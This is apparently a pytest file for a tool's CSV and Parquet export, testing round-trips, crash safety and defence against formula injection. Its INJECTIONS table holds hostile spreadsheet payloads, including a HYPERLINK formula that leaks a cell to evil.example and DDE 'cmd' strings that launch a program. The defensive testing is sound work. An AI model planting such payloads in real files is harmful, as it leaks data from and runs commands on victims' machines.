"""Exports: CSV and Parquet give back the table, and a crash never leaves half a file."""

from __future__ import annotations

import csv
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from lif_app.cli.app import app
from lif_core.domain import Measure
from lif_core.errors import ConfigError, NotFoundError
from lif_core.eventlog.store import Store
from lif_core.ingestion import ingest_file
from lif_core.ingestion.samples import bad_inputs, sample_inputs
from lif_core.plugins.host import load_plugins
from lif_core.policies import run_policies
from projections import TABLES, export_table, project
from projections import api as projections_api
from projections.api import neutralise_cell
from projections.engine import as_written

SOURCES = ("action-plans", "learning-log", "practice-reviews", "performance")


@pytest.fixture
def populated(store: Store) -> Store:
    """Every table with rows: samples, a bad file, the policies, a measure."""
    plugins = load_plugins()
    for name in SOURCES:
        loaded = plugins.get(name)
        for path in sample_inputs(loaded.source):
            ingest_file(store, loaded, path)
    performance = plugins.get("performance")
    for path in bad_inputs(performance.source):
        ingest_file(store, performance, path)
    run_policies(store)
    store.save(
        Measure.define(
            reference="MEA-CPP-REPEAT",
            name="Repeat child protection plans",
            category="better-off",
            unit="%",
            polarity="lower-is-better",
            frequency="yearly",
            binding={
                "source": "performance",
                "kind": "indicator-value",
                "match": {"indicator_code": "CPP-REPEAT", "area": "Leeds"},
                "value": "value",
            },
            baseline_periods=2,
            actor="jane.smith",
        )
    )
    project(store)
    return store


def _stored(store: Store, table: str) -> list[tuple[Any, ...]]:
    spec = TABLES[table]
    with store.read() as tx:
        return tx.execute(
            f"SELECT {', '.join(c.name for c in spec.columns)} FROM {table} ORDER BY {', '.join(spec.key)}"
        ).fetchall()


def test_csv_gives_back_every_table(populated: Store, tmp_path: Path) -> None:
    for table, spec in TABLES.items():
        out = tmp_path / "exports" / f"{table}.csv"
        count = export_table(populated, table, "csv", out)
        rows = _stored(populated, table)
        assert count == len(rows)
        with out.open(newline="", encoding="utf-8") as handle:
            header, *body = list(csv.reader(handle))
        assert header == [c.name for c in spec.columns]
        assert body == [
            [
                "" if v is None else str(neutralise_cell(as_written(v, c)))
                for v, c in zip(row, spec.columns, strict=True)
            ]
            for row in rows
        ], table


ARROW = {
    "TEXT": pa.string(),
    "INTEGER": pa.int64(),
    "REAL": pa.float64(),
    "BOOLEAN": pa.bool_(),
    "DATE": pa.date32(),
    "TIMESTAMP": pa.timestamp("us", tz="UTC"),
    "JSON": pa.json_(),
}


def _native(value: Any, kind: str) -> Any:
    """What a stored value (ISO text and 1/0 on SQLite, native on PostgreSQL) means, in Python."""
    if value is None:
        return None
    if kind == "DATE":
        return value if isinstance(value, date) else date.fromisoformat(value)
    if kind == "TIMESTAMP":
        moment = value if isinstance(value, datetime) else datetime.fromisoformat(value)
        return moment.astimezone(UTC)
    if kind == "BOOLEAN":
        return bool(value)
    if kind == "JSON":
        return json.loads(value) if isinstance(value, str) else value
    return value


def test_parquet_gives_back_every_table_with_its_native_types(
    populated: Store, tmp_path: Path
) -> None:
    for table, spec in TABLES.items():
        out = tmp_path / f"{table}.parquet"
        count = export_table(populated, table, "parquet", out)
        schema = pq.read_schema(out)
        assert schema.names == [c.name for c in spec.columns]
        assert [f.type for f in schema] == [ARROW[c.type] for c in spec.columns], table
        read = pq.read_table(out).to_pylist()
        expected = [
            tuple(_native(v, c.type) for v, c in zip(row, spec.columns, strict=True))
            for row in _stored(populated, table)
        ]
        got = [
            tuple(
                json.loads(v) if c.type == "JSON" and v is not None else v
                for v, c in zip(r.values(), spec.columns, strict=True)
            )
            for r in read
        ]
        assert got == expected, table
        assert count == len(read)


def test_read_schema_shows_dates_as_date32_times_in_utc_and_flags_as_bool(
    populated: Store, tmp_path: Path
) -> None:
    out = tmp_path / "action_status.parquet"
    export_table(populated, "action_status", "parquet", out)
    schema = pq.read_schema(out)
    assert schema.field("due").type == pa.date32()
    assert schema.field("last_change").type == pa.timestamp("us", tz="UTC")
    assert schema.field("overdue").type == pa.bool_()
    assert schema.field("times_rescheduled").type == pa.int64()
    assert schema.field("description").metadata == {b"description": b"What is to be done."}


def test_every_table_is_exported_with_rows(populated: Store, tmp_path: Path) -> None:
    counts = {t: export_table(populated, t, "csv", tmp_path / f"{t}.csv") for t in TABLES}
    assert all(counts[t] > 0 for t in ("learning_register", "action_status", "impact_monitoring"))
    assert counts["rejections"] == 10


def test_an_unknown_table_or_format_is_refused(populated: Store, tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    with pytest.raises(NotFoundError, match="learning_register"):
        export_table(populated, "learning_registr", "csv", folder / "x.csv")
    with pytest.raises(ConfigError, match="csv or parquet"):
        export_table(populated, "action_status", "xlsx", folder / "x.xlsx")
    assert not folder.exists() or list(folder.iterdir()) == []


class _PowerCut(Exception):
    pass


_CSV_WRITER = csv.writer


def _crashing_csv_writer(handle: Any) -> Any:
    writer = _CSV_WRITER(handle)

    class Half:
        def writerow(self, row: Any) -> None:
            writer.writerow(row)

        def writerows(self, rows: Any) -> None:
            rows = list(rows)
            writer.writerows(rows[: len(rows) // 2])
            handle.flush()
            raise _PowerCut("the machine lost power half way through")

    return Half()


def _crashing_parquet_writer(table: Any, where: Any, **kwargs: Any) -> None:
    Path(where).write_bytes(b"PAR1 half a file")
    raise _PowerCut("the machine lost power half way through")


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_crash_mid_export_leaves_no_half_written_file(
    populated: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    folder = tmp_path / "exports"
    fresh = folder / f"new.{fmt}"
    previous = folder / f"previous.{fmt}"
    export_table(populated, "action_status", fmt, previous)
    before = previous.read_bytes()
    if fmt == "csv":
        monkeypatch.setattr(projections_api.csv, "writer", _crashing_csv_writer)
    else:
        monkeypatch.setattr(pq, "write_table", _crashing_parquet_writer)
    for target in (fresh, previous):
        with pytest.raises(_PowerCut):
            export_table(populated, "action_status", fmt, target)
    assert not fresh.exists()
    assert previous.read_bytes() == before  # the last good export stays whole
    assert sorted(p.name for p in folder.iterdir()) == [previous.name]  # no temporary files left


def test_lif_export_writes_the_file(populated: Store, store_url: str, tmp_path: Path) -> None:
    out = tmp_path / "register.parquet"
    result = CliRunner().invoke(
        app,
        [
            "--store",
            store_url,
            "export",
            "learning_register",
            "--format",
            "parquet",
            "--out",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    rows = _stored(populated, "learning_register")
    assert f"wrote {len(rows)} rows" in result.output
    assert pq.read_table(out).num_rows == len(rows)


INJECTIONS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.mark.parametrize("lead", list(INJECTIONS))
def test_an_exported_csv_with_injected_text_opens_as_text(
    tmp_path: Path, lead: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Text from a decision (an action's description) that a spreadsheet would run as a formula
    is written with a leading apostrophe; ``--raw-cells`` writes it as stored."""
    from lif_core.decisions import create, declaration

    url = f"sqlite:///{tmp_path / 'lif.db'}"
    injected = INJECTIONS[lead]
    with Store(url) as store:
        arguments = {"description": injected, "owner_agency": "-Police", "due": "2025-09-30"}
        create(store, declaration("action", "raise"), arguments, actor="chair")
        project(store)
    monkeypatch.setenv("LIF_PLUGINS_THIRD_PARTY", "0")
    out = tmp_path / "actions.csv"
    result = CliRunner().invoke(
        app, ["--store", url, "export", "action_status", "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1
    assert rows[0]["description"] == "'" + injected
    assert rows[0]["owner_agency"] == "'-Police"
    # Numbers stay numbers: the count of reschedules is written as 0, not '0.
    assert rows[0]["times_rescheduled"] == "0"
    raw = tmp_path / "raw.csv"
    result = CliRunner().invoke(
        app,
        ["--store", url, "export", "action_status", "--out", str(raw), "--raw-cells"],
    )
    assert result.exit_code == 0, result.output
    with raw.open(newline="", encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["description"] == injected


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert neutralise_cell(-3) == -3
    assert neutralise_cell(-2.5) == -2.5
    assert neutralise_cell("-12.5") == "-12.5"  # a number in a text column is still a number
    assert neutralise_cell("+44") == "+44"
    assert neutralise_cell("-") == "'-"
    assert neutralise_cell("Police") == "Police"
    assert neutralise_cell(None) is None
